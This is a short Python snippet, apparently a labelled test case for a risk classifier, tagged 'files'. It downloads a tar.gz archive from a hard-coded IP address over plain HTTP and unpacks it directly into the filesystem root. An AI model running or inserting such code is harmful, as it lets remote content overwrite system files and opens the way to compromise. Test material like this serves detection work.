# expect: files; downloads an archive and unpacks it straight into "/" with shutil.unpack_archive
import shutil
import tempfile
import urllib.request

url = "http://203.0.113.50/update.tar.gz"
with tempfile.NamedTemporaryFile(suffix=".tar.gz", delete=False) as tmp:
    tmp.write(urllib.request.urlopen(url, timeout=10).read())
shutil.unpack_archive(tmp.name, extract_dir="/", format="gztar")
